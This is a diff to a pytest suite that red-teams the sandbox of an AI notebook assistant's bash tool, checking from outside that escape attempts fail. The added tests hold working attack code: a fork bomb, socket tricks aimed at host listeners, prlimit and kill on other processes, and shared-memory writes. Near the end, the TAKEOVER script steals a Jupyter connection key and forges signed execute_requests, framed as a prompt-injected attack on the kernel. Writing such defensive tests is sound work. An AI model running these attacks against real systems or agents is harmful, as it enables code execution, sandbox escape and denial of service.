@@ -7,10 +7,17 @@ user's files are exactly as before.
 
 from __future__ import annotations
 
+import asyncio
+import contextlib
+import ctypes
+import fcntl
+import json
 import os
+import shlex
 import socket
 import subprocess
 import threading
+import time
 from collections.abc import Iterator
 from pathlib import Path
 
@@ -18,7 +25,7 @@ import pytest
 
 from phoenix_nb.core.values import Mode
 from phoenix_nb.tools.base import ToolContext
-from phoenix_nb.tools.bash import BashTool
+from phoenix_nb.tools.bash import BashTool, kill_background_jobs
 from phoenix_nb.tools.sandbox import SandboxLimits, detect_sandbox
 
 pytestmark = pytest.mark.skipif(not detect_sandbox().available, reason="needs Landlock")
@@ -150,6 +157,17 @@ CASES: dict[str, tuple[str, str]] = {
 
 
 @pytest.fixture
+def mark() -> Iterator[str]:
+    word = f"phoenix_escape_{os.getpid()}_{time.monotonic_ns()}"
+    yield word
+    for entry in os.listdir("/proc"):
+        if entry.isdigit():
+            with contextlib.suppress(OSError):
+                if word.encode() in Path(f"/proc/{entry}/cmdline").read_bytes():
+                    os.kill(int(entry), 9)
+
+
+@pytest.fixture
 def user_dir(tmp_path: Path) -> Path:
     (tmp_path / "f.txt").write_text("precious\n")
     (tmp_path / "sub" / "empty").mkdir(parents=True)
@@ -198,9 +216,12 @@ async def test_env_has_no_api_key(user_dir: Path, monkeypatch: pytest.MonkeyPatc
 async def test_fork_bomb_ends_and_leaves_nothing(user_dir: Path) -> None:
     """A fork bomb is bounded (pids cgroup / RLIMIT_NPROC) and killed at the timeout."""
     tool = BashTool(SandboxLimits(max_procs=64))
+    (user_dir / "bomb.sh").write_text("b(){ b|b& }; b\n")
     before = snapshot(user_dir)
     result = await tool.run(
-        {"command": "b(){ b|b& }; b; sleep 30", "timeout": 3}, ctx_for(user_dir), "t"
+        {"command": "bash bomb.sh; sleep 30", "timeout": 3},
+        ctx_for(user_dir),
+        "t",
     )
     assert result.display is not None and result.display["timed_out"]
     assert snapshot(user_dir) == before
@@ -259,3 +280,425 @@ async def test_secret_in_a_process_environment_is_unreadable(user_dir: Path) -> 
     assert denied == 3, result.content
     # Only CAP_DAC_READ_SEARCH (bit 2) may be left, so reads keep working for root.
     assert int(result.content.split("CapEff:")[1].split()[0], 16) & ~0x4 == 0
+
+
+# ---------------------------------------------------------------------------------------
+# Round 2 (issue 12): one test per family the review broke, each checked from outside.
+
+
+async def _run(command: str, cwd: Path, tool: BashTool | None = None, **more: object) -> str:
+    result = await (tool or BashTool()).run(
+        {"command": command, "timeout": 30, **more}, ctx_for(cwd), "t"
+    )
+    return result.content
+
+
+async def test_item1_no_tcp_of_any_flavour_reaches_a_host_listener(
+    user_dir: Path, listeners: dict[str, Listener]
+) -> None:
+    """TFO (v4/v6), MPTCP with high bits in the protocol, UDP: nothing reaches the host."""
+    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    udp.bind(("127.0.0.1", 0))
+    udp.setblocking(False)
+    v4, v6 = listeners["v4"].sock.getsockname()[1], listeners["v6"].sock.getsockname()[1]
+    before = {key: listener.accepted for key, listener in listeners.items()}
+    script = (
+        "import ctypes, socket\n"
+        f"for fam, host, port in ((socket.AF_INET, '127.0.0.1', {v4}), "
+        f"(socket.AF_INET6, '::1', {v6})):\n"
+        "    s = socket.socket(fam, socket.SOCK_STREAM)\n"
+        "    try:\n"
+        "        s.sendto(b'x', socket.MSG_FASTOPEN, (host, port)); print('TFO-SENT')\n"
+        "    except OSError as e: print('tfo', e)\n"
+        "libc = ctypes.CDLL(None, use_errno=True)\n"
+        "fd = libc.syscall(41, 2, 1, ctypes.c_long(262 | 1 << 32))\n"
+        "print('mptcp-high-bits', fd, ctypes.get_errno())\n"
+        "u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
+        f"u.sendto(b'x', ('127.0.0.1', {udp.getsockname()[1]}))\n"
+    )
+    (user_dir / "net.py").write_text(script)
+    try:
+        out = await _run("python3 net.py", user_dir)
+        assert "mptcp-high-bits -1 1" in out, out  # EPERM, whatever the high bits say
+        with pytest.raises(BlockingIOError):
+            udp.recv(16)
+    finally:
+        udp.close()
+    assert {key: listener.accepted for key, listener in listeners.items()} == before
+
+
+async def test_item1_autobind_listener_is_not_reachable_from_outside(
+    user_dir: Path, mark: str
+) -> None:
+    """`listen()` without `bind()` autobinds, but only inside the command's own netns."""
+    script = (
+        "import socket, sys, time\n"
+        "s = socket.socket(); s.listen()\n"
+        "c = socket.create_connection(('127.0.0.1', s.getsockname()[1]), 2)\n"
+        "print('PORT', s.getsockname()[1], 'self-connect-ok', flush=True)\n"
+        f"time.sleep(30)  # {mark}\n"
+    )
+    (user_dir / "listen.py").write_text(script)
+    ctx = ctx_for(user_dir)
+    result = await BashTool().run({"command": "python3 listen.py", "background": True}, ctx, "t")
+    assert result.display is not None
+    log = Path(str(result.display["log"]))
+    try:
+        deadline = time.monotonic() + 20
+        while "PORT" not in log.read_text() and time.monotonic() < deadline:
+            await asyncio.sleep(0.02)
+        text = log.read_text()
+        assert "self-connect-ok" in text, text  # its own loopback works
+        port = int(text.split("PORT ")[1].split()[0])
+        with pytest.raises(OSError):
+            socket.create_connection(("127.0.0.1", port), 1).close()
+    finally:
+        await kill_background_jobs(ctx.conversation_id)
+
+
+def _limits(pid: int) -> str:
+    return Path(f"/proc/{pid}/limits").read_text()
+
+
+async def test_item3_no_prlimit_kill_or_core_dump_of_another_process(user_dir: Path) -> None:
+    """prlimit/kill on a victim (same uid) fail; checked from outside, it keeps its limits."""
+    victim = subprocess.Popen(["sleep", "60"], start_new_session=True)
+    try:
+        before = _limits(victim.pid)
+        out = await _run(
+            f"prlimit --pid {victim.pid} --cpu=1:1; prlimit --pid {victim.pid} --nofile=12:12; "
+            f"prlimit --pid {victim.pid} --core=unlimited; kill -XCPU {victim.pid}; "
+            f"python3 -c 'import resource; resource.prlimit({victim.pid}, resource.RLIMIT_CPU, "
+            "(1, 1))'; exit 0",
+            user_dir,
+        )
+        assert _limits(victim.pid) == before, out
+        assert victim.poll() is None
+        assert _limits(os.getpid()) == _limits(os.getpid())  # this kernel stand-in untouched
+    finally:
+        victim.kill()
+        victim.wait()
+
+
+FS_IOC_GETFLAGS = 0x80086601
+
+
+def _inode_flags(path: Path) -> int:
+    fd = os.open(path, os.O_RDONLY)
+    try:
+        return int.from_bytes(fcntl.ioctl(fd, FS_IOC_GETFLAGS, bytes(8))[:4], "little")
+    finally:
+        os.close(fd)
+
+
+async def test_item4_inode_flag_ioctls_are_denied(user_dir: Path) -> None:
+    """FS_IOC_SETFLAGS/SETVERSION (64-bit and 32-bit numbers) on read-only fds: EPERM."""
+    target = user_dir / "f.txt"
+    flags_before = _inode_flags(target)
+    sub_before = _inode_flags(user_dir / "sub")
+    script = (
+        "import fcntl, os, struct, errno\n"
+        "for path in ('f.txt', 'sub'):\n"
+        "    fd = os.open(path, os.O_RDONLY)\n"
+        "    for req in (0x40086602, 0x40046602, 0x40087602, 0x40047602, "
+        "0x40086604, 0x140086602):\n"
+        "        try:\n"
+        "            fcntl.ioctl(fd, req, struct.pack('q', 0x00010000 | 0x80 | 0x8 | 0x4000))\n"
+        "            print('CHANGED', path, hex(req))\n"
+        "        except OSError as e: print('denied', hex(req), e.errno)\n"
+    )
+    (user_dir / "flags.py").write_text(script)
+    out = await _run("python3 flags.py; chattr +S +A f.txt; chattr +d +D sub; exit 0", user_dir)
+    assert "CHANGED" not in out, out
+    assert _inode_flags(target) == flags_before
+    assert _inode_flags(user_dir / "sub") == sub_before
+
+
+def _ipcs() -> str:
+    return subprocess.run(["ipcs"], capture_output=True, text=True, check=True).stdout
+
+
+def _shm(shmid: int) -> ctypes.c_void_p:
+    libc = ctypes.CDLL(None, use_errno=True)
+    libc.shmat.restype = ctypes.c_void_p
+    addr = libc.shmat(shmid, None, 0)
+    assert addr not in (None, ctypes.c_void_p(-1).value)
+    return addr
+
+
+async def test_item5_sysv_ipc_is_private_and_gone_with_the_command(user_dir: Path) -> None:
+    """A host shm segment cannot be written; objects made inside vanish with the command."""
+    made = subprocess.run(["ipcmk", "-M", "4096"], capture_output=True, text=True, check=True)
+    shmid = int(made.stdout.split(":")[1])
+    addr = _shm(shmid)
+    ctypes.memmove(addr, b"host-data", 9)
+    try:
+        before = _ipcs()
+        script = (
+            "import ctypes\n"
+            "l = ctypes.CDLL(None, use_errno=True); l.shmat.restype = ctypes.c_void_p\n"
+            f"a = l.shmat({shmid}, None, 0)\n"
+            "if a not in (None, ctypes.c_void_p(-1).value): ctypes.memmove(a, b'PWNED', 5)\n"
+            "print('shmat', a, ctypes.get_errno())\n"
+        )
+        (user_dir / "shm.py").write_text(script)
+        out = await _run("python3 shm.py; ipcmk -M 1048576; ipcmk -Q; ipcmk -S 4; ipcs", user_dir)
+        assert ctypes.string_at(addr, 9) == b"host-data", out
+        assert _ipcs() == before, out  # nothing new outlives the command
+    finally:
+        ctypes.CDLL(None).shmdt(ctypes.c_void_p(addr))
+        subprocess.run(["ipcrm", "-m", str(shmid)], check=False)
+
+
+async def test_item6_unix_datagrams_cannot_reach_a_host_socket(
+    user_dir: Path, tmp_path_factory: pytest.TempPathFactory
+) -> None:
+    where = tmp_path_factory.mktemp("dgram") / "sock"
+    server = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
+    server.bind(str(where))
+    server.setblocking(False)
+    script = (
+        "import socket\n"
+        "for make in (lambda: socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)[0],\n"
+        "             lambda: socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)):\n"
+        "    try:\n"
+        "        s = make()\n"
+        f"        s.sendto(b'x', {str(where)!r}); print('SENT')\n"
+        "    except OSError as e: print('denied', e)\n"
+    )
+    (user_dir / "dgram.py").write_text(script)
+    try:
+        out = await _run("python3 dgram.py", user_dir)
+        assert "SENT" not in out, out
+        with pytest.raises(BlockingIOError):
+            server.recv(16)
+    finally:
+        server.close()
+
+
+async def test_item7_memory_is_bounded_for_the_whole_tree(user_dir: Path) -> None:
+    """Three processes and a memfd together cannot hold more than the budget."""
+    tool = BashTool(SandboxLimits(memory=256 << 20, address_space=8 << 30))
+    hog = "python3 -c 'b = bytearray(160 << 20); import time; time.sleep(5)'"
+    memfd = (
+        'python3 -c \'import os, mmap; fd = os.memfd_create("x"); os.ftruncate(fd, 400 << 20); '
+        'm = mmap.mmap(fd, 400 << 20); m.write(b"x" * (400 << 20))\''
+    )
+    out = await _run(f"{hog} & {hog} & {hog} & wait; {memfd}; exit 0", user_dir, tool)
+    assert "[limit hit: memory" in out, out
+    assert "c.Phoenix.sandbox_memory" in out
+
+
+async def test_item7_tmpdir_is_capped_in_bytes_and_inodes(user_dir: Path) -> None:
+    tool = BashTool(SandboxLimits(tmp_bytes=32 << 20, tmp_inodes=500))
+    out = await _run("head -c 100000000 /dev/zero > $TMPDIR/big; exit 0", user_dir, tool)
+    assert "No space left on device" in out and "[limit hit: TMPDIR size" in out, out
+    out = await _run(
+        "for i in $(seq 1000); do : > $TMPDIR/f$i || break; done; exit 0", user_dir, tool
+    )
+    assert "[limit hit: TMPDIR files" in out, out
+
+
+def _conversation_processes(word: str) -> int:
+    count = 0
+    for entry in os.listdir("/proc"):
+        if entry.isdigit():
+            with contextlib.suppress(OSError):
+                if word.encode() in Path(f"/proc/{entry}/cmdline").read_bytes():
+                    count += 1
+    return count
+
+
+async def test_item7_background_jobs_share_one_process_budget(user_dir: Path, mark: str) -> None:
+    """Three background jobs each trying for 100 processes stay within 40 together."""
+    tool = BashTool(SandboxLimits(max_procs=40))
+    ctx = ctx_for(user_dir)
+    try:
+        for _ in range(3):
+            await tool.run(
+                {
+                    "command": f"for i in $(seq 100); do sh -c 'sleep 30 # {mark}' & done; wait",
+                    "background": True,
+                },
+                ctx,
+                "t",
+            )
+        peak = 0
+        deadline = time.monotonic() + 5
+        while time.monotonic() < deadline:
+            peak = max(peak, _conversation_processes(mark))
+            await asyncio.sleep(0.05)
+        assert 0 < peak <= 40, peak
+    finally:
+        await kill_background_jobs(ctx.conversation_id)
+
+
+async def test_item8_deep_tree_cleanup_returns_and_leaves_nothing(user_dir: Path) -> None:
+    out = await _run(
+        'python3 -c \'import os\nos.chdir(os.environ["TMPDIR"])\n'
+        'for i in range(2000): os.mkdir("d"); os.chdir("d"); open("f", "w")\n'
+        "print(len(os.getcwd()))'; chmod 000 $TMPDIR/d; echo $TMPDIR",
+        user_dir,
+    )
+    tmpdir = out.strip().splitlines()[-1]
+    assert tmpdir.startswith("/") and not Path(tmpdir).exists(), out
+
+
+async def test_item8_background_log_is_written_by_the_supervisor(user_dir: Path) -> None:
+    """A job cannot truncate or rewrite its own log: it only ever holds a pipe."""
+    ctx = ctx_for(user_dir)
+    cmd = (
+        "echo first-line; python3 -c 'import os; os.ftruncate(1, 0)'; "
+        "echo rewritten > /proc/self/fd/1; ls -l /proc/self/fd/1; echo last-line"
+    )
+    result = await BashTool().run({"command": cmd, "background": True}, ctx, "t")
+    assert result.display is not None
+    log = Path(str(result.display["log"]))
+    try:
+        deadline = time.monotonic() + 20
+        while "last-line" not in log.read_text() and time.monotonic() < deadline:
+            await asyncio.sleep(0.02)
+        text = log.read_text()
+        assert text.startswith("first-line\n"), text
+        assert "pipe:" in text and "last-line" in text
+    finally:
+        await kill_background_jobs(ctx.conversation_id)
+
+
+async def test_item8_store_files_cannot_be_opened(
+    user_dir: Path, tmp_path_factory: pytest.TempPathFactory, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    home = tmp_path_factory.mktemp("store")
+    (home / "phoenix.lock").write_text("")
+    monkeypatch.setenv("PHOENIX_HOME", str(home))
+    out = await _run(
+        f'python3 -c \'import fcntl; f = open("{home}/phoenix.lock"); '
+        'fcntl.flock(f, fcntl.LOCK_EX); print("LOCKED")\'; ls {home}',
+        user_dir,
+    )
+    assert "LOCKED" not in out and "Permission denied" in out, out
+
+
+# A prompt-injected command's attack on its own kernel: find the kernel by walking
+# up the parent pids, read its connection file (or use the key and ports it was
+# handed anyway), and send a signed execute_request over TCP Fast Open, a plain
+# connect, or an ipc:// socket. Speaks ZMTP 3.0 itself (stdlib only).
+TAKEOVER = r"""
+import hashlib, hmac, json, os, socket, struct, sys, uuid, datetime
+known = json.loads(sys.argv[1])
+marker = sys.argv[2]
+found = []
+pid = os.getpid()
+for _ in range(64):
+    try:
+        stat = open(f"/proc/{pid}/stat").read()
+        argv = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\0")
+    except OSError as e:
+        print("walk stopped:", e); break
+    for i, a in enumerate(argv):
+        if a == b"-f" and i + 1 < len(argv):
+            found.append(argv[i + 1].decode())
+    pid = int(stat.rsplit(")", 1)[1].split()[1])
+    if pid <= 1:
+        print("walk reached", pid); break
+info = dict(known)
+for path in found + [known["connection_file"]]:
+    try:
+        info.update(json.load(open(path))); print("READ CONNECTION FILE", path)
+    except OSError as e:
+        print("connection file:", e)
+key = info["key"].encode()
+
+def frames(parts):
+    out = b""
+    for i, p in enumerate(parts):
+        more = 1 if i < len(parts) - 1 else 0
+        if len(p) < 256:
+            out += bytes([more, len(p)]) + p
+        else:
+            out += bytes([more | 2]) + struct.pack(">Q", len(p)) + p
+    return out
+
+def message():
+    header = json.dumps({"msg_id": uuid.uuid4().hex, "username": "x", "session": uuid.uuid4().hex,
+        "date": datetime.datetime.now(datetime.timezone.utc).isoformat(),
+        "msg_type": "execute_request", "version": "5.3"}).encode()
+    content = json.dumps({"code": f"open({marker!r}, 'w').write('owned')", "silent": False,
+        "store_history": False, "user_expressions": {}, "allow_stdin": False,
+        "stop_on_error": True}).encode()
+    parts = [header, b"{}", b"{}", content]
+    sig = hmac.new(key, b"".join(parts), hashlib.sha256).hexdigest().encode()
+    return frames([b"<IDS|MSG>", sig] + parts)
+
+greeting = b"\xff" + bytes(8) + b"\x7f" + bytes([3, 0]) + b"NULL".ljust(20, b"\0") + bytes(32)
+ready = b"\x05READY" + b"\x0bSocket-Type" + struct.pack(">I", 6) + b"DEALER"
+command = bytes([4, len(ready)]) + ready
+
+def talk(s, fastopen_addr=None):
+    if fastopen_addr:
+        s.sendto(greeting, socket.MSG_FASTOPEN, fastopen_addr)
+    else:
+        s.sendall(greeting)
+    s.settimeout(3)
+    s.recv(64)
+    s.sendall(command + message())
+    print("SENT execute_request", s.recv(256)[:8])
+
+for port_name in ("shell_port", "control_port"):
+    addr = (info.get("ip", "127.0.0.1"), info[port_name])
+    for route in ("tfo", "connect"):
+        try:
+            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+            if route == "tfo":
+                talk(s, addr)
+            else:
+                s.settimeout(3); s.connect(addr); talk(s)
+        except OSError as e:
+            print(route, port_name, "failed:", e)
+for path in (p for p in os.listdir(os.path.dirname(known["connection_file"]) or ".") if "ipc" in p):
+    try:
+        s = socket.socket(socket.AF_UNIX); s.connect(path); talk(s)
+    except OSError as e:
+        print("ipc failed:", e)
+print("ATTACK DONE")
+"""
+
+
+@pytest.mark.timeout(180)
+def test_item2_kernel_takeover_from_a_phoenix_cell_fails(
+    tmp_path_factory: pytest.TempPathFactory,
+) -> None:
+    """A Restricted command cannot run code in the very kernel that started it.
+
+    Real kernel (kernel_harness), real %%phoenix cell, real SDK against the fake
+    Messages API. The attacker even gets the HMAC key and ports handed to it,
+    so what stops it is that the kernel is unreachable, not that it is secret;
+    the marker must not appear and the kernel must keep running cells.
+    """
+    from phoenix_nb.testing import FakeAnthropic, Turn, text, tool_use
+    from tests.notebook.kernel_harness import Kernel
+
+    root = tmp_path_factory.mktemp("takeover")
+    marker = root / "owned-marker"
+    with FakeAnthropic() as fake:
+        kern = Kernel(root, fake.base_url)
+        try:
+            kern.ok("%load_ext phoenix_nb")
+            conn = json.loads(Path(kern.km.connection_file).read_text())
+            known = {**conn, "connection_file": kern.km.connection_file}
+            (kern.project / "attack.py").write_text(TAKEOVER)
+            command = f"python3 attack.py {shlex.quote(json.dumps(known))} {marker}"
+            fake.script(
+                Turn([tool_use("bash", {"command": command})]),
+                Turn([text("done")]),
+            )
+            cell = kern.run("%%phoenix --new --mode restricted\nTake over.", timeout=120)
+            assert cell.status == "ok", cell.error()
+            output = json.dumps(fake.requests[-1].tool_results)
+            assert "ATTACK DONE" in output, output[-3000:]
+            assert "SENT execute_request" not in output and "READ CONNECTION FILE" not in output
+            assert not marker.exists()
+            assert kern.eval("1 + 1") == 2  # the kernel keeps running later cells
+            assert not marker.exists()
+        finally:
+            kern.shutdown()
